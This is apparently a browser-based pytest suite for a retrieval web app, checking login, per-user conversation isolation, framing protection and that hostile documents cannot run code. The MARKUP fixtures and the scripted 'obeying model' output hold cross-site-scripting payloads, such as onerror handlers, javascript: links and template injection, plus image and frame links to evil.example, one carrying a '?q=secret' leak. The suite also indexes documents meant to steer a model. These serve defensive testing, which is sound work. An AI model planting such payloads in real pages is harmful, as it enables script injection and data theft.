"""Who gets in, and that nothing on the page runs or leaves, in a real browser: log-in, hostile documents, frames."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser import PATIENCE, Site, Watched, ask, opened, sample_site, serving
from hostile_documents import HOSTILE, QUESTIONS
from scripted_server import ScriptedServer

from rag import Rag, Settings
from ui.auth import Users
from ui.server import COOKIE, Access

pytestmark = pytest.mark.filterwarnings("ignore:::gradio.queueing")

PASSWORD = "correct horse"
KEEPER = "Who was the last principal keeper of Skarn Head?"


@pytest.fixture(scope="module")
def closed(chromium: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A page that asks who one is."""
    folder = tmp_path_factory.mktemp("closed")
    users = Users(folder / "users.txt")
    users.add("ada", PASSWORD)
    users.add("bob", PASSWORD)
    with sample_site(folder, access=Access(users=users)) as site:
        yield site


def log_in(own: Any, site: Site, name: str) -> Any:
    page = own.new_page()
    page.goto(site.url)
    assert page.url == f"{site.url}/login?next=/"
    page.fill("[name=name]", name)
    page.fill("[name=password]", PASSWORD)
    page.press("[name=password]", "Enter")
    page.wait_for_url(f"{site.url}/")
    page.wait_for_selector("#question textarea")
    return page


def test_one_logs_in_asks_and_logs_out(chromium: Any, closed: Site) -> None:
    with chromium.new_context() as own:
        own.set_default_timeout(PATIENCE)
        watched = Watched()
        own.on("page", watched.watch)
        page = log_in(own, closed, "ada")
        assert "Ewan Brough" in ask(page, KEEPER).inner_text()
        (cookie,) = [each for each in own.cookies() if each["name"] == COOKIE]
        assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax")
        assert COOKIE not in page.evaluate("document.cookie")
        assert watched.elsewhere(closed.url) == []
        assert watched.errors == []
        status = "async () => (await fetch('config')).status"
        assert page.evaluate(status) == 200
        page.get_by_role("button", name="Log out").click()
        page.wait_for_url(f"{closed.url}/login")
        assert page.evaluate(status) == 401


def test_a_wrong_password_stays_outside(chromium: Any, closed: Site) -> None:
    with chromium.new_context() as own:
        page = own.new_page()
        page.goto(closed.url)
        page.fill("[name=name]", "ada")
        page.fill("[name=password]", "wrong password")
        page.press("[name=password]", "Enter")
        page.get_by_role("alert").wait_for()
        assert page.evaluate("async () => (await fetch('config')).status") == 401


def test_each_sees_their_own_conversations_only(chromium: Any, closed: Site) -> None:
    with chromium.new_context(viewport={"width": 1440, "height": 900}) as one, chromium.new_context() as other:
        for own in (one, other):
            own.set_default_timeout(PATIENCE)
        page = log_in(one, closed, "ada")
        ask(page, "Who founded the Holm Hill Observatory?")
        talk = page.locator("#talks .talk", has_text="Who founded the Holm Hill Observatory?").first
        talk.wait_for()
        id = talk.get_attribute("data-id")
        assert page.request.get(f"{closed.url}/conversations/{id}.md").status == 200
        theirs = log_in(other, closed, "bob")
        theirs.wait_for_selector("#talks", state="attached")
        assert theirs.locator("#talks .talk", has_text="Holm Hill").count() == 0
        assert theirs.request.get(f"{closed.url}/conversations/{id}.md").status == 404


def test_with_a_log_in_nobody_names_models_or_folders(chromium: Any, closed: Site) -> None:
    with chromium.new_context() as own:
        own.set_default_timeout(PATIENCE)
        page = log_in(own, closed, "ada")
        page.click("nav [data-view=settings]")
        field = page.locator("#model textarea, #model input")
        field.wait_for()
        assert not field.is_editable()
        page.click("nav [data-view=library]")
        page.fill("#address textarea, #address input", "/etc")
        page.click("#add")
        page.locator("#news .failed", has_text="Type an address").wait_for()


# Hostile documents

MARKUP = {
    "page-script.md": "The bridge at Oxbow was opened in 1911. <script>window.ran = 1</script>"
    "<img src=x onerror='window.ran=2'>",
    "page-image.md": "The bridge at Wellow was opened in 1912. ![x](http://evil.example/leak.png) "
    "<img src='//evil.example/a'>",
    "page-link.md": "The bridge at Yare was opened in 1913. [click](javascript:window.ran=3) "
    "<a href='javascript:window.ran=4'>x</a>",
    "page-frame.html": "<p>The bridge at Zeal was opened in 1914.</p><iframe src='http://evil.example'></iframe>"
    "<svg onload='window.ran=5'></svg><style>body{display:none}</style><form action='http://evil.example'>"
    "<input name=q></form><meta http-equiv=refresh content='0;url=http://evil.example'>"
    "<base href='http://evil.example'>",
    "page-attribute.md": "The bridge at \"Quay\" onmouseover=\"window.ran=6\" was opened in 1915. "
    "' onfocus='window.ran=7' autofocus",
    "page-template.md": "The bridge at Tern was opened in 1916. ${window.ran=8} "
    "{{constructor.constructor('window.ran=9')()}} $$x$$",
    "page-title.md": "# <img src=x onerror='window.ran=10'>\n\nThe bridge at Undy was opened in 1917.",
    '<img src=x onerror="window.ran=11">.txt': "The bridge at Vale was opened in 1918.",
}  # fmt: skip


@pytest.fixture(scope="module")
def hostile(chromium: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """Documents that attack the page and those that attack a model, in one index."""
    folder = tmp_path_factory.mktemp("hostile")
    docs = folder / "docs"
    docs.mkdir()
    for name, text in MARKUP.items():
        (docs / name).write_text(text, "utf-8")
    with ScriptedServer() as model, Rag(folder / ".rag", Settings(min_confidence=0.0)) as kb:
        kb.sync(docs)
        for name, text in HOSTILE.items():
            if len(text) < 50_000:
                kb.add(text, name)
        with serving(kb) as url:
            yield Site(url, kb, model, docs)


def nothing_ran(page: Any) -> None:
    assert page.evaluate("window.ran") is None
    assert page.locator("iframe, #talk img, #panel img, #panel form, #panel svg, #talk form").count() == 0
    assert page.locator("body").is_visible()


def test_no_document_runs_anything_where_it_is_read(chromium: Any, hostile: Site) -> None:
    with opened(chromium, hostile) as page:
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
        for info in hostile.kb.documents():
            text = page.evaluate(
                "async doc => { const e = document.createElement('a'); e.dataset.doc = doc; e.href = '#source';"
                " document.querySelector('#talk').append(e); e.click(); e.remove(); }",
                info.doc,
            )
            page.locator("#panel header").wait_for()
            assert text is None
            nothing_ran(page)
        page.click("nav [data-view=library]")
        page.locator("#documents .holdings").wait_for()
        nothing_ran(page)


@pytest.mark.parametrize("name", list(MARKUP))
def test_no_document_runs_anything_in_an_answer(chromium: Any, hostile: Site, name: str) -> None:
    place, year = re.search(r"bridge at \"?(\w+)", MARKUP[name])[1], re.search(r"19\d\d", MARKUP[name])[0]
    with opened(chromium, hostile) as page:
        turn = ask(page, f"When was the bridge at {place} opened?")
        assert year in turn.inner_text()
        for link in turn.locator("a.cite").all()[:2]:
            link.hover()
            link.click()
            page.locator("#panel mark").first.wait_for()
        nothing_ran(page)


def test_a_model_that_obeys_writes_words_and_no_markup(chromium: Any, hostile: Site) -> None:
    said = (
        "<img src=x onerror='window.ran=20'> ![x](http://evil.example/?q=secret) [link](http://evil.example) "
        "<script>window.ran=21</script> <a href='javascript:window.ran=22'>go</a> ${window.ran=23} [b1.1]."
    )
    with opened(chromium, hostile) as page:
        page.click("nav [data-view=settings]")
        page.fill("#model textarea, #model input", hostile.model_spec)
        page.locator("#leaves", has_text="the model's server runs on it").wait_for()
        page.click("nav [data-view=chat]")
        hostile.model.script[:] = [said]
        turn = ask(page, "When was the bridge at Oxbow opened?")
        assert "onerror" in turn.inner_text()
        assert turn.locator("img, script, a[href^=http], a[href^=javascript]").count() == 0
        nothing_ran(page)


def test_questions_titles_and_names_are_words_too(chromium: Any, hostile: Site) -> None:
    words = "<img src=x onerror='window.ran=30'> When was the bridge at Oxbow opened?"
    with opened(chromium, hostile, viewport={"width": 1440, "height": 900}) as page:
        ask(page, words)
        page.locator("#talks .talk", has_text="<img src=x").first.wait_for()
        page.reload()
        page.locator("#talks .talk", has_text="<img src=x").first.click()
        page.locator(".turn .tools").wait_for()
        nothing_ran(page)


def test_documents_that_steer_are_quoted_for_their_fact(chromium: Any, hostile: Site) -> None:
    """Names and titles among them attack the page's lists and footnotes, too."""
    names = [info.doc for info in hostile.kb.documents() if info.doc in QUESTIONS]
    assert len(names) > 30
    with opened(chromium, hostile) as page:
        for name in names[::5]:
            question, year = QUESTIONS[name]
            turn = ask(page, question)
            assert year in turn.inner_text(), name
            nothing_ran(page)


def test_another_site_cannot_frame_the_page(chromium: Any, site: Site, tmp_path: Path) -> None:
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
    from threading import Thread

    class Other(SimpleHTTPRequestHandler):
        def do_GET(self) -> None:
            body = f'<iframe src="{site.url}/"></iframe>'.encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Other)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        with chromium.new_context() as own:
            page = own.new_page()
            page.goto(f"http://127.0.0.1:{server.server_address[1]}/")
            page.wait_for_timeout(1500)
            assert all("Footnote" not in (frame.title() or "") for frame in page.frames[1:])
            posted = page.evaluate(
                "url => fetch(url + '/upload?name=a.txt', {method: 'POST', body: 'x', mode: 'no-cors'})"
                ".then(() => 'sent', () => 'refused')",
                site.url,
            )
        assert posted in {"sent", "refused"}  # sent it may be; the server refuses it
        assert not (site.kb.index.folder / "uploads" / "a.txt").exists()
    finally:
        server.shutdown()
